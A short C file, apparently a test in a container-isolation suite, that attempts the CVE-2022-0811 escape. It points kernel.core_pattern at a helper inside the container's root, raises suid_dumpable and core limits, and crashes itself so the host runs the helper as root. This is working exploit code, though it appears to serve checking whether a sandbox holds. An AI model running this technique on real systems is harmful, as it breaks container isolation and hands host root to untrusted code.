/* Has the kernel run a program of the guest as the host's root when something crashes (core(5); CVE-2022-0811). */
#include "common/attack.h"

static void crash(void) {
    struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};
    setrlimit(RLIMIT_CORE, &all);
    prctl(PR_SET_DUMPABLE, 1);
    kill(getpid(), SIGSEGV);
}

static void attempt(void) {
    char pattern[256];
    snprintf(pattern, sizeof pattern, "|/proc/%%P/root%s %%P", own("helper"));
    put("/proc/sys/kernel/core_pattern", pattern);
    put("/proc/sys/kernel/core_uses_pid", "1");
    put("/proc/sys/fs/suid_dumpable", "2");
    put("/proc/sys/kernel/core_pipe_limit", "0");
    apart(crash, 5);
}
